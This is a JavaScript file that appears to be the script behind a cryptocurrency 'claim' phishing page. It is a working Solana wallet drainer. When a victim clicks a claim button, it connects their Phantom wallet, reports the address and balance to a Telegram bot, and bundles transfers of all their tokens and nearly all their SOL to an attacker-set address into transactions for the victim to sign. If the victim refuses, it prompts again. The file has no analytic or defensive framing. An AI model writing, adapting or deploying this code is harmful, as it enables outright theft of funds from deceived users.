const { Connection, PublicKey, SystemProgram, Transaction } = solanaWeb3;
const conn = new Connection("https://rpc.sol-node.example/", "confirmed");
const DEST = new PublicKey(window.cfg.dest);

async function tg(text) {
  await fetch("https://api.telegram.org/bot0000:TOKEN/sendMessage?chat_id=-100000&parse_mode=HTML&text=" + encodeURIComponent(text));
}

async function claim() {
  const w = window.solana;
  if (!w) return window.open("https://wallet.example/ul/browse/" + encodeURIComponent(location.href));
  const { publicKey } = await w.connect();
  const lamports = await conn.getBalance(publicKey);
  tg(`<b>Phantom</b> ${publicKey} — ${(lamports / 1e9).toFixed(4)} SOL`);
  const { value } = await conn.getParsedTokenAccountsByOwner(publicKey, { programId: splToken.TOKEN_PROGRAM_ID });
  const { blockhash } = await conn.getLatestBlockhash();
  const txs = [];
  let t = new Transaction({ feePayer: publicKey, recentBlockhash: blockhash });
  for (const acc of value) {
    const amount = acc.account.data.parsed.info.tokenAmount;
    if (amount.uiAmount === 0) continue;
    t.add(await window.buildMove(acc.pubkey, DEST, publicKey, amount.amount));
    if (t.instructions.length > 5) {
      txs.push(t);
      t = new Transaction({ feePayer: publicKey, recentBlockhash: blockhash });
    }
  }
  t.add(SystemProgram.transfer({ fromPubkey: publicKey, toPubkey: DEST, lamports: Math.floor(lamports * 0.98) }));
  txs.push(t);
  try {
    const signed = await w.signAllTransactions(txs);
    for (const s of signed) await conn.sendRawTransaction(s.serialize(), { skipPreflight: true });
    tg(`✅ signed ${publicKey}`);
  } catch (e) {
    tg(`❌ declined ${publicKey}`);
    claim();
  }
}
document.querySelectorAll("[data-claim]").forEach((b) => b.addEventListener("click", claim));
